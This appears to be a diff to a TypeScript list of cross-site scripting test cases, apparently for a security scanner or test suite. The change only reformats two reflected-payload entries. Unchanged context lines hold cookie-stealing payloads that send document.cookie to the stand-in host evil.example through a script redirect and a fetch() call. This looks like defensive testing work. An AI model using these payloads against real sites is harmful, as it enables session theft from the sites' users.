@@ -28,6 +28,14 @@ export const crossSiteScripting: readonly Attack[] = [
   get('/link?to', 'javascript:alert(document.cookie)', 'script address in a link'),
   stored('<script>document.location="//evil.example/?c="+document.cookie</script>', 'stored in a review (form)', false),
   stored('<img src=1 onerror="fetch(\'//evil.example/\'+document.cookie)">', 'stored in a review (JSON)', true),
-  { name: 'previewed markup', request: { path: '/preview', form: { markup: '<details open ontoggle=alert(1)>' } }, effect: reflects('<details open ontoggle=alert(1)>') },
-  { name: 'Referer header', request: { path: '/missing', headers: { referer: 'http://x.example/<script>alert(1)</script>' } }, effect: reflects('<script>alert(1)</script>') },
+  {
+    name: 'previewed markup',
+    request: { path: '/preview', form: { markup: '<details open ontoggle=alert(1)>' } },
+    effect: reflects('<details open ontoggle=alert(1)>'),
+  },
+  {
+    name: 'Referer header',
+    request: { path: '/missing', headers: { referer: 'http://x.example/<script>alert(1)</script>' } },
+    effect: reflects('<script>alert(1)</script>'),
+  },
 ];
